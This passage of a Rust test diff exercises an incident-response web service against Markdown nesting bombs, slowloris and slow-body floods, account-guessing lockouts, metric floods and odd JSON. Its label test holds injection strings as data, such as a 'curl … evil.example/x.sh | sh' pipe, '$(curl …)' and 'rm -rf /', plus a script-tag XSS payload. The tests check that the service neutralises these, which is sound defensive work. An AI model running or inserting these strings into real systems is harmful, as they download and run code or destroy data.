@@ -815,3 +815,965 @@ async fn connections_past_the_cap_wait_for_a_free_slot() {
     stop.send(Stop::Interrupt).unwrap();
     handle.await.unwrap();
 }
+
+// ---- hostile Markdown ------------------------------------------------------
+
+/// A playbook whose Symptoms hold `body`, and the line `body` starts on.
+fn playbook_with(body: &str) -> (String, usize) {
+    let head = "+++\nid = \"deep\"\ntitle = \"Deep\"\nalert = \"deep\"\nlayer = \"network\"\n+++\n\
+                ## Symptoms\n\nIt starts here:\n";
+    let source = format!(
+        "{head}{body}\n\n## Investigation\n1. **Look**\n\n## Root cause\nR.\n\n## Fix\nF.\n\n\
+         ## Prevention\nP.\n"
+    );
+    (source, head.lines().count() + 1)
+}
+
+/// A postmortem whose Summary holds `body`, and the line `body` starts on.
+fn postmortem_with(body: &str) -> (String, usize) {
+    let head = "+++\nid = 1\nincident = 1\ntitle = \"Deep\"\nimpact_start = \"2026-11-23T10:00:00Z\"\n\
+                +++\n\n## Summary\n\n";
+    let rest: String = [
+        "Impact",
+        "Symptoms",
+        "Timeline",
+        "Evidence",
+        "Investigation",
+        "Root cause",
+        "Fix",
+        "Prevention",
+    ]
+    .iter()
+    .map(|h| format!("\n## {h}\n\nText.\n"))
+    .collect();
+    (format!("{head}{body}\n{rest}"), head.lines().count() + 1)
+}
+
+/// Deeply nested Markdown (100 KB of `>`, 50,000 nested list markers,
+/// 20,000 nested HTML tags) sent to both live previews: each answers at
+/// once with the line where it nests too deep, and `/healthz` stays fast
+/// while they run. (Before the bound, one 100 KB preview took 66.7 s in a
+/// release build and several made `/healthz` take 12 s.)
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_markdown_previews_are_refused_at_their_line_and_healthz_stays_fast() {
+    let (addr, t, stop, handle) = common::serve_in_process(Config::default()).await;
+    let editor = common::session_for(&t.state, "ed", Role::Editor).await;
+    let base = format!("http://{addr}");
+    let client = reqwest::Client::builder()
+        .timeout(Duration::from_secs(120))
+        .build()
+        .unwrap();
+    let hostile = [
+        format!("{}x", ">".repeat(100_000)),
+        format!("{}x", "- ".repeat(50_000)),
+        format!("{}x", "<div><em>".repeat(10_000)),
+        format!("{}x", "> - ".repeat(20_000)),
+    ];
+    let mut previews = Vec::new();
+    for body in &hostile {
+        for (path, (source, line)) in [
+            ("/api/v1/playbooks/preview", playbook_with(body)),
+            ("/api/v1/postmortems/preview", postmortem_with(body)),
+        ] {
+            let (client, base, editor) = (client.clone(), base.clone(), editor.clone());
+            previews.push(tokio::spawn(async move {
+                let started = Instant::now();
+                let r = client
+                    .post(format!("{base}{path}"))
+                    .header("cookie", &editor.cookie)
+                    .header("x-csrf-token", &editor.csrf)
+                    .header("origin", &base)
+                    .json(&serde_json::json!({ "source": source }))
+                    .send()
+                    .await
+                    .unwrap();
+                let status = r.status();
+                let answer: serde_json::Value = r.json().await.unwrap();
+                (path, line, status, answer, started.elapsed())
+            }));
+        }
+    }
+    // /healthz, asked over and over while the previews are in flight.
+    let mut slowest = Duration::ZERO;
+    let mut asked = 0;
+    while previews.iter().any(|p| !p.is_finished()) || asked < 5 {
+        let started = Instant::now();
+        let r = client.get(format!("{base}/healthz")).send().await.unwrap();
+        assert_eq!(r.status(), StatusCode::OK);
+        slowest = slowest.max(started.elapsed());
+        asked += 1;
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    let mut longest = Duration::ZERO;
+    for p in previews {
+        let (path, line, status, answer, took) = p.await.unwrap();
+        assert_eq!(status, StatusCode::OK, "{path}: {answer}");
+        assert_eq!(answer["valid"], false, "{path}: {answer}");
+        assert_eq!(answer["errors"][0]["line"], line, "{path}: {answer}");
+        let message = answer["errors"][0]["message"].as_str().unwrap();
+        assert!(message.contains("levels deep"), "{path}: {message}");
+        longest = longest.max(took);
+    }
+    eprintln!("hostile previews: slowest {longest:?}; /healthz slowest {slowest:?} over {asked}");
+    assert!(
+        longest < Duration::from_secs(10),
+        "a preview took {longest:?}"
+    );
+    assert!(
+        slowest < Duration::from_secs(2),
+        "/healthz took {slowest:?}"
+    );
+
+    // A stored version renders once: the second view comes from the cache.
+    let before = t.state.renderer.cached_entries();
+    for _ in 0..2 {
+        let r = client
+            .get(format!("{base}/playbooks/close-wait-leak"))
+            .header("cookie", &editor.cookie)
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status(), StatusCode::OK);
+    }
+    assert_eq!(t.state.renderer.cached_entries(), before + 1);
+    stop.send(Stop::Interrupt).unwrap();
+    handle.await.unwrap();
+}
+
+// ---- slow and silent clients -----------------------------------------------
+
+/// A TCP connection to `addr` from the loopback address `from` (the whole
+/// of 127.0.0.0/8 is this machine): each address has its own connection cap.
+async fn connect_from(from: [u8; 4], addr: std::net::SocketAddr) -> tokio::net::TcpStream {
+    let socket = tokio::net::TcpSocket::new_v4().unwrap();
+    socket.bind(std::net::SocketAddr::from((from, 0))).unwrap();
+    tokio::time::timeout(Duration::from_secs(10), socket.connect(addr))
+        .await
+        .expect("connect in time")
+        .unwrap()
+}
+
+/// Reads until the server closes the connection (or `limit` passes): what
+/// it sent, and when it closed, counted from `since`.
+async fn read_until_closed(
+    conn: &mut tokio::net::TcpStream,
+    since: Instant,
+    limit: Duration,
+) -> (String, Option<Duration>) {
+    use tokio::io::AsyncReadExt;
+    let mut got = Vec::new();
+    let mut buf = [0u8; 1024];
+    loop {
+        let left = limit.saturating_sub(since.elapsed());
+        match tokio::time::timeout(left, conn.read(&mut buf)).await {
+            Err(_) => return (String::from_utf8_lossy(&got).into_owned(), None),
+            Ok(Ok(0)) | Ok(Err(_)) => {
+                return (
+                    String::from_utf8_lossy(&got).into_owned(),
+                    Some(since.elapsed()),
+                );
+            }
+            Ok(Ok(n)) => got.extend_from_slice(&buf[..n]),
+        }
+    }
+}
+
+/// `/healthz` from 127.0.0.1, `times` times: each answers 200; the slowest.
+async fn healthz_meanwhile(addr: std::net::SocketAddr, times: usize) -> Duration {
+    let client = reqwest::Client::builder()
+        .timeout(Duration::from_secs(5))
+        .build()
+        .unwrap();
+    let mut slowest = Duration::ZERO;
+    for _ in 0..times {
+        let started = Instant::now();
+        let r = client
+            .get(format!("http://{addr}/healthz"))
+            .send()
+            .await
+            .expect("/healthz answers during the flood");
+        assert_eq!(r.status(), StatusCode::OK);
+        slowest = slowest.max(started.elapsed());
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    slowest
+}
+
+/// 300 sockets that never send a byte from one address, and 40 that trickle
+/// a request head a byte at a time from another: past the per-address cap
+/// the server answers 503 and closes at once; the rest are closed once the
+/// head timeout passes. `/healthz` answers throughout. (Before: silent
+/// sockets stayed open for minutes and 4,100 filled `max_connections`.)
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn idle_and_slowloris_floods_are_closed_in_time_while_healthz_answers() {
+    use tokio::io::AsyncWriteExt;
+    let mut config = common::anonymous_read_config();
+    config.header_read_timeout_s = 1;
+    config.security.max_connections_per_address = 200;
+    let (addr, _t, stop, handle) = common::serve_in_process(config).await;
+
+    let started = Instant::now();
+    let mut silent = Vec::new();
+    for _ in 0..300 {
+        silent.push(connect_from([127, 0, 0, 2], addr).await);
+    }
+    let mut slow = Vec::new();
+    for _ in 0..40 {
+        let mut conn = connect_from([127, 0, 0, 3], addr).await;
+        slow.push(tokio::spawn(async move {
+            let since = Instant::now();
+            let head = b"GET /healthz HTTP/1.1\r\nHost: t\r\nX-Slow: ";
+            for byte in head.iter().chain(std::iter::repeat(&b'a')) {
+                if conn.write_all(&[*byte]).await.is_err()
+                    || since.elapsed() > Duration::from_secs(8)
+                {
+                    break;
+                }
+                tokio::time::sleep(Duration::from_millis(100)).await;
+            }
+            read_until_closed(&mut conn, since, Duration::from_secs(8)).await
+        }));
+    }
+    let slowest = healthz_meanwhile(addr, 10).await;
+    assert!(
+        slowest < Duration::from_secs(2),
+        "/healthz took {slowest:?}"
+    );
+
+    let (mut refused, mut timed_out) = (0, 0);
+    for mut conn in silent {
+        let (sent, closed) = read_until_closed(&mut conn, started, Duration::from_secs(8)).await;
+        let closed = closed.expect("a silent socket is closed by the server");
+        if sent.starts_with("HTTP/1.1 503") {
+            refused += 1;
+        } else {
+            assert_eq!(sent, "", "a silent socket gets nothing");
+            assert!(closed < Duration::from_secs(4), "closed after {closed:?}");
+            timed_out += 1;
+        }
+    }
+    assert_eq!(
+        (refused, timed_out),
+        (100, 200),
+        "the cap is 200 per address"
+    );
+    for task in slow {
+        let (sent, closed) = task.await.unwrap();
+        let closed = closed.expect("a slowloris connection is closed by the server");
+        assert!(
+            !sent.contains("200 OK"),
+            "the trickled head was never served"
+        );
+        assert!(closed < Duration::from_secs(4), "closed after {closed:?}");
+    }
+    stop.send(Stop::Interrupt).unwrap();
+    handle.await.unwrap();
+}
+
+/// 520 `POST /login` whose bodies never finish (the finding: they held all
+/// 512 request places and everything answered 503). Bodies are read before
+/// a request takes a place, so with only 8 places a page still loads and
+/// `/healthz` answers; each slow sender gets 408 when its time is up.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn slow_bodies_hold_no_request_places_and_get_408() {
+    use tokio::io::AsyncWriteExt;
+    let mut config = common::anonymous_read_config();
+    config.body_read_timeout_s = 2;
+    config.security.max_concurrent_requests = 8;
+    let (addr, _t, stop, handle) = common::serve_in_process(config).await;
+
+    let started = Instant::now();
+    let mut slow = Vec::new();
+    for i in 0..520u16 {
+        // Spread over three addresses: the per-address cap is not the point.
+        let mut conn = connect_from([127, 0, 1, 1 + (i % 3) as u8], addr).await;
+        conn.write_all(
+            b"POST /login HTTP/1.1\r\nHost: t\r\nContent-Type: application/x-www-form-urlencoded\r\n\
+              Content-Length: 100\r\n\r\nname=a&password=",
+        )
+        .await
+        .unwrap();
+        slow.push(conn);
+    }
+    let client = reqwest::Client::builder()
+        .timeout(Duration::from_secs(5))
+        .build()
+        .unwrap();
+    for page in ["/login", "/playbooks"] {
+        let r = client
+            .get(format!("http://{addr}{page}"))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status(), StatusCode::OK, "{page} during the flood");
+    }
+    let slowest = healthz_meanwhile(addr, 5).await;
+    assert!(
+        slowest < Duration::from_secs(2),
+        "/healthz took {slowest:?}"
+    );
+
+    for conn in &mut slow {
+        let (sent, closed) = read_until_closed(conn, started, Duration::from_secs(15)).await;
+        assert!(sent.starts_with("HTTP/1.1 408"), "{sent}");
+        let closed = closed.expect("closed after the 408");
+        assert!(closed < Duration::from_secs(10), "closed after {closed:?}");
+    }
+    stop.send(Stop::Interrupt).unwrap();
+    handle.await.unwrap();
+}
+
+// ---- labels never become commands ------------------------------------------
+
+/// Opens an incident from one firing Alertmanager alert with `labels` and
+/// the `summary` annotation; its id.
+async fn alert_incident(state: &AppState, labels: serde_json::Value, summary: &str) -> i64 {
+    let (token, _) =
+        faultline::accounts::add_api_token(state.kb.store(), "am", Role::Responder, "test")
+            .await
+            .unwrap();
+    let body = serde_json::json!({
+        "version": "4", "status": "firing", "receiver": "faultline",
+        "groupLabels": {}, "commonLabels": {}, "commonAnnotations": {},
+        "externalURL": "http://alertmanager:9093",
+        "alerts": [{
+            "status": "firing", "labels": labels,
+            "annotations": {"summary": summary},
+            "startsAt": "2026-11-24T03:00:00Z", "endsAt": "0001-01-01T00:00:00Z",
+            "fingerprint": "0badc0de"
+        }]
+    });
+    let a = common::send(
+        state,
+        Request::post("/api/v1/alertmanager")
+            .header(header::AUTHORIZATION, format!("Bearer {token}"))
+            .header(header::CONTENT_TYPE, "application/json")
+            .body(Body::from(body.to_string()))
+            .unwrap(),
+    )
+    .await;
+    assert_eq!(a.status, StatusCode::OK, "{}", a.text);
+    a.json()["opened"][0].as_i64().expect("an incident opened")
+}
+
+/// Hostile label values (a shell command after `;`, backticks, `$(…)`, a
+/// newline, a Markdown link) leave their placeholders unfilled, with a note
+/// why; valid ones fill. The checklist never shows a label as a command or
+/// as a link.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_label_values_are_left_unfilled_with_a_note() {
+    let t = common::app().await;
+    let evil = "10.0.0.9; curl -s https://evil.example/x.sh | sh #";
+    let id = alert_incident(
+        &t.state,
+        serde_json::json!({
+            "alertname": "Hostile",
+            "host": "db-1",
+            "namespace": evil,
+            "pod": "api-1`reboot`",
+            "service": "$(curl https://evil.example)",
+            "target": "[x](https://evil.example/)",
+        }),
+        "summary",
+    )
+    .await;
+    let alice = common::session_for(&t.state, "alice", Role::Responder).await;
+    let url = format!("/incidents/{id}");
+    for playbook in ["crashing-endpoint-refused", "dns-ndots-search-delay"] {
+        let chosen = common::form(
+            &t.state,
+            &alice,
+            &url,
+            &[("action", "playbook"), ("playbook", playbook)],
+        )
+        .await;
+        assert!(chosen.status.is_redirection(), "{}", chosen.text);
+        let page = common::get_as(&t.state, &alice, &url).await;
+        assert_eq!(page.status, StatusCode::OK);
+        let html = &page.text;
+        // The commands keep their placeholders; no value reaches one.
+        let code: String = html
+            .split("<code")
+            .skip(1)
+            .filter_map(|c| c.split_once("</code>").map(|(inside, _)| inside))
+            .collect();
+        assert!(code.contains("-n $NS $POD"), "{playbook}: {code}");
+        for raw in ["10.0.0.9", "reboot", "$(curl", "sh #", "evil.example"] {
+            assert!(!code.contains(raw), "{playbook}: {raw} reached a command");
+        }
+        assert!(
+            !html.contains("href=\"https://evil"),
+            "{playbook}: a label link"
+        );
+        // Each unfilled placeholder says why, the value escaped.
+        let note = html
+            .find("$NS is not filled: the label namespace = ")
+            .map(|at| &html[at..at + 120])
+            .unwrap_or_else(|| panic!("{playbook}: no note in {html}"));
+        assert!(note.contains("10.0.0.9; curl"), "{note}");
+        assert!(html.contains("$POD is not filled"), "{playbook}");
+    }
+    // The dns playbook uses $TARGET; a valid host label fills $HOST.
+    let page = common::get_as(&t.state, &alice, &url).await;
+    assert!(page.text.contains("$TARGET is not filled"), "{}", page.text);
+    let chosen = common::form(
+        &t.state,
+        &alice,
+        &url,
+        &[("action", "playbook"), ("playbook", "mtu-blackhole")],
+    )
+    .await;
+    assert!(chosen.status.is_redirection());
+    let page = common::get_as(&t.state, &alice, &url).await;
+    assert!(page.text.contains("tracepath -n db-1"), "{}", page.text);
+
+    // A newline in a value cannot start a line of its own either.
+    let filled = faultline::core::placeholders::fill(
+        "```sh\nping $HOST\n```\n",
+        &std::collections::BTreeMap::from([("host".to_owned(), "db-1\nrm -rf /".to_owned())]),
+    );
+    assert_eq!(filled.text, "```sh\nping $HOST\n```\n");
+    assert_eq!(filled.unfilled.len(), 1);
+}
+
+/// A code fence and `## Heading`s in an alert's name, labels and summary
+/// (the finding: *Write postmortem* then answered 500 every time): the
+/// draft is written, parses, and shows that text as written.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn fenced_and_headed_labels_still_draft_a_postmortem() {
+    let t = common::app().await;
+    let id = alert_incident(
+        &t.state,
+        serde_json::json!({
+            "alertname": "## Impact",
+            "host": "db-1",
+            "note": "```\n## Root cause\n",
+            "runbook": "[x](https://evil.example/)",
+        }),
+        "```\n## Fix\n# Evil\n> <script>alert(1)</script>\n1. step\n---",
+    )
+    .await;
+    let alice = common::session_for(&t.state, "alice", Role::Responder).await;
+    let written = common::form(
+        &t.state,
+        &alice,
+        &format!("/incidents/{id}/postmortem"),
+        &[],
+    )
+    .await;
+    assert!(
+        written.status.is_redirection(),
+        "{}: {}",
+        written.status,
+        written.text
+    );
+    let at = written.location.clone().unwrap();
+    let page = common::get_as(&t.state, &alice, &at).await;
+    assert_eq!(page.status, StatusCode::OK, "{}", page.text);
+    assert!(!page.text.contains("does not parse"), "{}", page.text);
+    assert!(
+        !page.text.contains("<script>alert"),
+        "raw HTML from an alert"
+    );
+    assert!(
+        !page.text.contains("href=\"https://evil"),
+        "a link from a label"
+    );
+    // Nine sections, each heading once: the alert's headings are text.
+    for heading in ["Impact", "Root cause", "Fix"] {
+        assert_eq!(
+            page.text.matches(&format!(">{heading}</h2>")).count(),
+            1,
+            "{heading}: {}",
+            page.text
+        );
+    }
+    assert!(page.text.contains("## Impact"), "the alert name as written");
+
+    let pm_id = at.rsplit('/').next().unwrap();
+    let api = common::get_as(&t.state, &alice, &format!("/api/v1/postmortems/{pm_id}")).await;
+    let source = api.json()["source"].as_str().unwrap().to_owned();
+    faultline::core::postmortem::Postmortem::parse("draft", &source)
+        .unwrap_or_else(|e| panic!("{e}\n{source}"));
+}
+
+// ---- a stranger cannot hold an account -------------------------------------
+
+/// A login from `address` (as the socket would give it).
+fn login_from(name: &str, password: &str, address: &str) -> Request<Body> {
+    let mut req = login_request(name, password, None);
+    let peer: std::net::SocketAddr = format!("{address}:40000").parse().unwrap();
+    req.extensions_mut()
+        .insert(axum::extract::ConnectInfo(peer));
+    req
+}
+
+/// The finding's pattern, at a third of the time scale: the burst, then one
+/// wrong guess for a known account every refill / 3 (there: every 4 s
+/// against a 12 s refill), which kept the owner at 429 for 104 s. Now the
+/// guesser waits; the owner's right password from another address works
+/// every time; the guesser's own right password waits too (no oracle).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_stranger_guessing_an_account_never_holds_its_owner_out() {
+    let mut config = Config::default();
+    config.security.login_account_burst = 5;
+    config.security.login_account_refill_s = 3;
+    let t = common::app_with(config).await;
+    add_user(&t.state, "olivia", Role::Editor).await;
+    let (stranger, owner) = ("198.51.100.7", "203.0.113.20");
+
+    let mut limited = 0;
+    let started = Instant::now();
+    for round in 0..12 {
+        let a = send(
+            &t.state,
+            login_from("olivia", "guess-guess-guess", stranger),
+        )
+        .await;
+        match a.status {
+            StatusCode::UNAUTHORIZED => {}
+            StatusCode::TOO_MANY_REQUESTS => limited += 1,
+            other => panic!("guess {round}: {other}"),
+        }
+        if round % 3 == 2 {
+            let a = send(&t.state, login_from("olivia", PASSWORD, owner)).await;
+            assert_eq!(a.status, StatusCode::SEE_OTHER, "round {round}: {}", a.body);
+        }
+        tokio::time::sleep(Duration::from_secs(1)).await;
+    }
+    // The guesser got the burst and one guess per refill, no more.
+    let allowed = 12 - limited;
+    let refills = started.elapsed().as_secs() / 3;
+    assert!(
+        limited > 0 && allowed <= 5 + refills + 1,
+        "{allowed} guesses in {refills} refills"
+    );
+    // Right after a refused guess, the right password from that address is
+    // refused too: the limit tells nothing about the password. (Tried a few
+    // times: a refill may land between the two on a loaded machine.)
+    let no_oracle = async {
+        for _ in 0..10 {
+            let guess = send(
+                &t.state,
+                login_from("olivia", "guess-guess-guess", stranger),
+            )
+            .await;
+            if guess.status != StatusCode::TOO_MANY_REQUESTS {
+                continue;
+            }
+            let right = send(&t.state, login_from("olivia", PASSWORD, stranger)).await;
+            if right.status == StatusCode::TOO_MANY_REQUESTS {
+                return true;
+            }
+            assert_eq!(right.status, StatusCode::SEE_OTHER);
+        }
+        false
+    };
+    assert!(
+        no_oracle.await,
+        "the right password was never refused with the guesses"
+    );
+
+    // The per-address limit still holds: one address, many accounts.
+    for i in 0..30 {
+        let a = send(
+            &t.state,
+            login_from(&format!("u{i}"), "guess-guess-guess", "192.0.2.99"),
+        )
+        .await;
+        if a.status == StatusCode::TOO_MANY_REQUESTS {
+            return;
+        }
+    }
+    panic!("30 logins from one address were never limited");
+}
+
+// ---- bounded metrics -------------------------------------------------------
+
+/// 400 requests with made-up methods to made-up paths (the finding: 20k
+/// requests grew `/metrics` to 21 MB): they count as method `other` and
+/// route `unmatched`, and `/metrics` stays the size it was.
+#[tokio::test]
+async fn made_up_methods_and_paths_do_not_grow_metrics() {
+    use rand::Rng;
+    let t = common::app().await;
+    let mut rng = rand::rng();
+    let mut random_token = |n: usize| -> String {
+        (0..n)
+            .map(|_| char::from(rng.random_range(b'A'..=b'Z')))
+            .collect()
+    };
+    let mut made_up = |i: usize| {
+        let method = random_token(3 + i % 9);
+        let path = format!("/{}/{}", random_token(6), i);
+        (method, path)
+    };
+    let send_some = |batch: Vec<(String, String)>| {
+        let state = t.state.clone();
+        async move {
+            for (method, path) in batch {
+                let req = Request::builder()
+                    .method(method.as_str())
+                    .uri(&path)
+                    .body(Body::empty())
+                    .unwrap();
+                let a = send(&state, req).await;
+                assert!(a.status.is_client_error(), "{method} {path}: {}", a.status);
+            }
+        }
+    };
+    let on_a_route = |i: usize| {
+        let state = t.state.clone();
+        async move {
+            let req = Request::builder()
+                .method(format!("X{i}").as_str())
+                .uri("/playbooks")
+                .body(Body::empty())
+                .unwrap();
+            send(&state, req).await;
+        }
+    };
+    // Every series the flood could touch exists once before it.
+    send_some((0..20).map(&mut made_up).collect()).await;
+    on_a_route(0).await;
+    send(&t.state, get("/metrics", None)).await;
+    let before = send(&t.state, get("/metrics", None)).await.body;
+    send_some((20..400).map(&mut made_up).collect()).await;
+    // Made-up methods on a real route too.
+    for i in 1..50 {
+        on_a_route(i).await;
+    }
+    let after = send(&t.state, get("/metrics", None)).await.body;
+    let series = |text: &str| {
+        text.lines()
+            .filter(|l| l.starts_with("faultline_http_requests_total{"))
+            .count()
+    };
+    assert!(after.contains("method=\"other\""), "{after}");
+    assert!(after.contains("route=\"unmatched\""), "{after}");
+    assert_eq!(series(&after), series(&before), "{after}");
+    // Only counts grew (a few digits each).
+    assert!(
+        after.len() < before.len() + 512,
+        "{} -> {} bytes",
+        before.len(),
+        after.len()
+    );
+}
+
+// ---- stored means readable -------------------------------------------------
+
+/// Reports that are valid JSON yet odd: numbers past f64, deep nesting in
+/// fields we ignore, lone surrogates, long strings, odd Unicode, unknown
+/// kinds. Each one ingest takes must read back (API and page) as sent;
+/// the rest are refused with a clear 4xx and not stored. (The finding: a
+/// report stored with 201 then answered 500 on every read.)
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn whatever_ingest_stores_reads_back() {
+    let t = common::app().await;
+    let (_, token) = faultline::ingest::add_collector(
+        t.state.kb.store(),
+        "odd-1",
+        &std::collections::BTreeMap::new(),
+    )
+    .await
+    .unwrap();
+    let deep = |n: usize| format!("{}1{}", "[".repeat(n), "]".repeat(n));
+    let long = "x".repeat(400_000);
+    // Raw JSON fragments spliced into the report: (where, fragment).
+    let odd: Vec<(&str, String)> = vec![
+        ("top", "\"extra\": 1e400".into()),
+        ("top", "\"extra\": -1e400".into()),
+        ("top", format!("\"extra\": {}", deep(200))),
+        ("top", format!("\"extra\": {}", deep(100))),
+        ("top", "\"extra\": \"\\ud800\"".into()),
+        ("top", "\"extra\": \"\\udc00\\ud800\"".into()),
+        ("top", "\"extra\": 18446744073709551616".into()),
+        (
+            "top",
+            "\"extra\": 123456789012345678901234567890e-10".into(),
+        ),
+        ("obs", "{\"kind\": \"x_custom\", \"v\": 1e400}".into()),
+        (
+            "obs",
+            format!("{{\"kind\": \"x_custom\", \"v\": {}}}", deep(150)),
+        ),
+        (
+            "obs",
+            format!("{{\"kind\": \"x_custom\", \"v\": \"{long}\"}}"),
+        ),
+        (
+            "obs",
+            "{\"kind\": \"x_\\u202e\\u0000\\ud83d\\ude00e\\u0301\", \"v\": \"\\u2028\"}".into(),
+        ),
+        ("obs", "{\"kind\": \"\", \"v\": -0}".into()),
+        (
+            "obs",
+            "{\"kind\": \"tcp_states\", \"counts\": {\"ESTABLISHED\": 1e400}}".into(),
+        ),
+        (
+            "obs",
+            "{\"kind\": \"http_latency\", \"target\": \"a\", \"samples\": [[1, 1e308, 200]]}"
+                .into(),
+        ),
+    ];
+    let base = common::example("close-wait-leak-1");
+    for (at, fragment) in odd {
+        let mut report = base.clone();
+        report["report_id"] = serde_json::json!(uuid::Uuid::new_v4().to_string());
+        let id = report["report_id"].as_str().unwrap().to_owned();
+        let text = report.to_string();
+        let body = match at {
+            "top" => format!("{{{fragment}, {}", &text[1..]),
+            _ => text.replacen(
+                "\"observations\":[",
+                &format!("\"observations\":[{fragment},"),
+                1,
+            ),
+        };
+        assert_ne!(body, text, "{fragment:.60}: spliced");
+        let sent = common::send_report(&t.state, &token, body.clone()).await;
+        let read = common::get(&t.state, &format!("/api/v1/reports/{id}")).await;
+        let page = common::get(&t.state, &format!("/reports/{id}")).await;
+        if sent.status.is_success() {
+            assert_eq!(read.status, StatusCode::OK, "{fragment:.60}: {}", read.text);
+            assert_eq!(page.status, StatusCode::OK, "{fragment:.60}: page");
+            let as_sent: serde_json::Value = serde_json::from_str(&body).unwrap();
+            assert_eq!(read.json()["report"], as_sent, "{fragment:.60}");
+        } else {
+            assert!(
+                [StatusCode::BAD_REQUEST, StatusCode::UNPROCESSABLE_ENTITY].contains(&sent.status),
+                "{fragment:.60}: {} {}",
+                sent.status,
+                sent.text
+            );
+            assert!(sent.json()["error"]["message"].is_string());
+            assert_eq!(
+                read.status,
+                StatusCode::NOT_FOUND,
+                "{fragment:.60}: stored anyway"
+            );
+        }
+    }
+}
+
+// ---- changing and resetting passwords --------------------------------------
+
+/// A form post over the router from the session behind `cookie`.
+async fn post_form(state: &AppState, uri: &str, cookie: &str, fields: &str) -> Answer {
+    let csrf = csrf_of(state, cookie).await;
+    let req = Request::post(uri)
+        .header(header::HOST, "localhost")
+        .header(header::ORIGIN, "http://localhost")
+        .header(header::COOKIE, cookie)
+        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
+        .body(Body::from(format!("{fields}&csrf_token={csrf}")))
+        .unwrap();
+    send(state, req).await
+}
+
+/// Logs `name` in through the form; the session cookie.
+async fn log_in(state: &AppState, name: &str, password: &str) -> String {
+    let a = send(state, login_request(name, password, None)).await;
+    assert_eq!(a.status, StatusCode::SEE_OTHER, "{name}: {}", a.body);
+    set_cookie(&a)
+}
+
+/// Change your own password (current one required) and an admin's reset:
+/// each ends the user's other sessions, the new password works and the old
+/// one does not, and the audit log has it.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn password_change_and_admin_reset_end_the_other_sessions() {
+    // Every request here comes from one address: room for them all.
+    let mut config = Config::default();
+    config.security.login_account_burst = 100;
+    let t = common::app_with(config).await;
+    add_user(&t.state, "pat", Role::Responder).await;
+    add_user(&t.state, "root", Role::Admin).await;
+    let laptop = log_in(&t.state, "pat", PASSWORD).await;
+    let phone = log_in(&t.state, "pat", PASSWORD).await;
+    let page = send(&t.state, get("/account/password", Some(&laptop))).await;
+    assert_eq!(page.status, StatusCode::OK);
+    assert!(page.body.contains("name=\"current\""), "{}", page.body);
+
+    let new_password = "a-brand-new-passphrase";
+    let wrong = post_form(
+        &t.state,
+        "/account/password",
+        &laptop,
+        &format!("current=not-it-at-all&new={new_password}&confirm={new_password}"),
+    )
+    .await;
+    assert_eq!(wrong.status, StatusCode::UNPROCESSABLE_ENTITY);
+    assert!(wrong.body.contains("current password is not right"));
+    let short = post_form(
+        &t.state,
+        "/account/password",
+        &laptop,
+        &format!("current={PASSWORD}&new=short&confirm=short"),
+    )
+    .await;
+    assert_eq!(short.status, StatusCode::UNPROCESSABLE_ENTITY);
+    assert!(short.body.contains("too short"), "{}", short.body);
+
+    let changed = post_form(
+        &t.state,
+        "/account/password",
+        &laptop,
+        &format!("current={PASSWORD}&new={new_password}&confirm={new_password}"),
+    )
+    .await;
+    assert_eq!(changed.status, StatusCode::SEE_OTHER, "{}", changed.body);
+    let renewed = set_cookie(&changed);
+    for (who, cookie, status) in [
+        ("the old laptop session", &laptop, StatusCode::FOUND),
+        ("the phone", &phone, StatusCode::FOUND),
+        ("this browser's new session", &renewed, StatusCode::OK),
+    ] {
+        assert_eq!(
+            send(&t.state, get("/", Some(cookie))).await.status,
+            status,
+            "{who}"
+        );
+    }
+    let old = send(&t.state, login_request("pat", PASSWORD, None)).await;
+    assert_eq!(old.status, StatusCode::UNAUTHORIZED, "the old password");
+    let pat = log_in(&t.state, "pat", new_password).await;
+
+    // An admin resets it; pat's sessions end; the reset password works.
+    let admin = log_in(&t.state, "root", PASSWORD).await;
+    let reset = post_form(
+        &t.state,
+        "/admin/users/pat",
+        &admin,
+        "action=password&password=reset-by-the-admin",
+    )
+    .await;
+    assert_eq!(reset.status, StatusCode::SEE_OTHER, "{}", reset.body);
+    assert_eq!(
+        send(&t.state, get("/", Some(&pat))).await.status,
+        StatusCode::FOUND
+    );
+    assert_eq!(
+        send(&t.state, get("/", Some(&renewed))).await.status,
+        StatusCode::FOUND
+    );
+    log_in(&t.state, "pat", "reset-by-the-admin").await;
+    let own = post_form(
+        &t.state,
+        "/admin/users/root",
+        &admin,
+        "action=password&password=another-long-one",
+    )
+    .await;
+    assert_eq!(
+        own.status,
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "own password: use the page"
+    );
+
+    let audit = t.state.kb.store().recent_audit(50).await.unwrap();
+    let changes: Vec<(&str, &str)> = audit
+        .iter()
+        .filter(|a| a.detail.contains("password changed") || a.action.starts_with("password."))
+        .map(|a| (a.actor.as_str(), a.action.as_str()))
+        .collect();
+    assert!(
+        changes.contains(&("pat", "password.change.fail")),
+        "{changes:?}"
+    );
+    assert!(changes.contains(&("pat", "user.update")), "{changes:?}");
+    assert!(changes.contains(&("root", "user.update")), "{changes:?}");
+}
+
+/// `faultline user passwd NAME` (password from FAULTLINE_PASSWORD, then
+/// from stdin) sets it and ends every session of theirs; an unknown name
+/// fails with a message.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_passwd_command_sets_a_password_and_ends_sessions() {
+    use std::io::Write;
+    let dir = tempfile::tempdir().unwrap();
+    let bin = env!("CARGO_BIN_EXE_faultline");
+    let faultline = |args: &[&str]| {
+        let mut cmd = std::process::Command::new(bin);
+        cmd.arg("--data-dir").arg(dir.path()).args(args);
+        cmd.env_remove("FAULTLINE_PASSWORD");
+        cmd
+    };
+    let out = faultline(&["user", "add", "sam", "--role", "viewer"])
+        .env("FAULTLINE_PASSWORD", PASSWORD)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
